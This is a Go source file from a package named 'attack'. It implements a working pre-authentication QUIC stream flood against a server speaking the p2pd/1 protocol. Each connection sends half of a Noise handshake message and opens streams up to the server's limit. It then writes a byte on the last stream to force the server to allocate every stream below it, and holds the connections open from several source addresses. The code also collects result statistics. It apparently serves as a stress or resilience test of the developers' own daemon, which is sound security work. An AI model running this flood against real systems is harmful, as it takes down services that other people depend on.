package attack

import (
	"context"
	"errors"
	"net"
	"net/netip"
	"sort"
	"sync"
	"time"

	"github.com/quic-go/quic-go"
)

// StreamsConfig configures the pre-authentication stream flood.
type StreamsConfig struct {
	Target  netip.AddrPort
	Sources []netip.Addr // connections are spread over them in turn
	Conns   int          // connections in all
	// MaxStreams bounds the streams opened per connection (default
	// DefaultMaxStreams), whatever the server allows.
	MaxStreams int
	// Gap is the pause between two connections' floods from the same
	// source (default 200 ms); the sources flood at once.
	Gap      time.Duration
	Duration time.Duration // connections are held open until then
	Started  func()
	// Flooded, if set, is called once every connection has been flooded
	// (or has failed to connect).
	Flooded func()
}

// DefaultMaxStreams is the flood's default bound on streams per connection.
const DefaultMaxStreams = 1 << 17

// StreamsResult is what the stream flood did.
type StreamsResult struct {
	Conns        int            `json:"conns"`         // connections whose QUIC handshake completed
	DialFailures int            `json:"dial_failures"` // and those whose did not
	Streams      []int          `json:"streams"`       // streams opened on each connection
	HitLimit     int            `json:"hit_limit"`     // connections that reached the server's stream limit
	ServerCloses int            `json:"server_closes"` // connections the server ended before Duration
	CloseCodes   map[string]int `json:"close_codes"`
	LifetimeP50  time.Duration  `json:"lifetime_p50_ns"`
	Elapsed      time.Duration  `json:"elapsed_ns"`
}

// Streams runs the stream flood: each connection completes QUIC with ALPN
// p2pd/1, writes one byte on stream 0 (the start of a Noise message it
// never finishes), opens bidirectional streams until the server's limit
// (or MaxStreams) and writes one byte on the last, which makes the server
// open every stream below it. Connections stay open, silent, until the
// server closes them or Duration is over.
func Streams(ctx context.Context, cfg StreamsConfig) (StreamsResult, error) {
	if len(cfg.Sources) == 0 || cfg.Conns <= 0 || cfg.Duration <= 0 || cfg.Duration > 10*time.Minute {
		return StreamsResult{}, errors.New("attack: streams needs sources, a connection count and a duration up to 10m")
	}
	if cfg.MaxStreams <= 0 {
		cfg.MaxStreams = DefaultMaxStreams
	}
	if cfg.Gap <= 0 {
		cfg.Gap = 200 * time.Millisecond
	}
	trs, closeAll, err := transports(cfg.Sources)
	if err != nil {
		return StreamsResult{}, err
	}
	defer closeAll()
	ctx, cancel := context.WithTimeout(ctx, cfg.Duration)
	defer cancel()
	if cfg.Started != nil {
		cfg.Started()
	}
	start := time.Now()
	res := StreamsResult{CloseCodes: map[string]int{}}
	var mu sync.Mutex // guards res and lifetimes
	var lifetimes []time.Duration
	var wg sync.WaitGroup
	target := net.UDPAddrFromAddrPort(cfg.Target)
	// One lane per source floods its share of the connections in turn;
	// the lanes run at once.
	var lanes sync.WaitGroup
	for l, tr := range trs {
		lanes.Go(func() {
			for i := l; i < cfg.Conns && ctx.Err() == nil; i += len(trs) {
				conn, n, limited, err := floodStreams(ctx, tr, target, cfg.MaxStreams)
				mu.Lock()
				if err != nil {
					res.DialFailures++
					mu.Unlock()
					continue
				}
				res.Conns++
				res.Streams = append(res.Streams, n)
				if limited {
					res.HitLimit++
				}
				mu.Unlock()
				up := time.Now()
				wg.Go(func() {
					select {
					case <-conn.Context().Done():
						mu.Lock()
						res.ServerCloses++
						res.CloseCodes[closeCode(context.Cause(conn.Context()))]++
						lifetimes = append(lifetimes, time.Since(up))
						mu.Unlock()
					case <-ctx.Done():
						conn.CloseWithError(0, "")
					}
				})
				sleepCtx(ctx, cfg.Gap)
			}
		})
	}
	lanes.Wait()
	if cfg.Flooded != nil && ctx.Err() == nil {
		cfg.Flooded()
	}
	<-ctx.Done()
	wg.Wait()
	res.Elapsed = time.Since(start)
	sort.Slice(lifetimes, func(i, j int) bool { return lifetimes[i] < lifetimes[j] })
	if n := len(lifetimes); n > 0 {
		res.LifetimeP50 = lifetimes[n/2]
	}
	return res, nil
}

// floodStreams dials and floods one connection; it returns the connection,
// the number of streams opened (stream 0 included) and whether the
// server's limit stopped it.
func floodStreams(ctx context.Context, tr *quic.Transport, target net.Addr, maxStreams int) (*quic.Conn, int, bool, error) {
	conn, err := tr.Dial(ctx, target, clientTLS(), attackQUICConfig(5*time.Second))
	if err != nil {
		return nil, 0, false, err
	}
	first, err := conn.OpenStream()
	if err != nil {
		conn.CloseWithError(0, "")
		return nil, 0, false, err
	}
	first.Write([]byte{0}) // half of a Noise message's 2-byte length
	last, n, limited := first, 1, false
	for n < maxStreams {
		s, err := conn.OpenStream()
		if err != nil {
			var sl *quic.StreamLimitReachedError
			limited = errors.As(err, &sl)
			break
		}
		last, n = s, n+1
	}
	if last != first {
		last.Write([]byte{0})
	}
	return conn, n, limited, nil
}
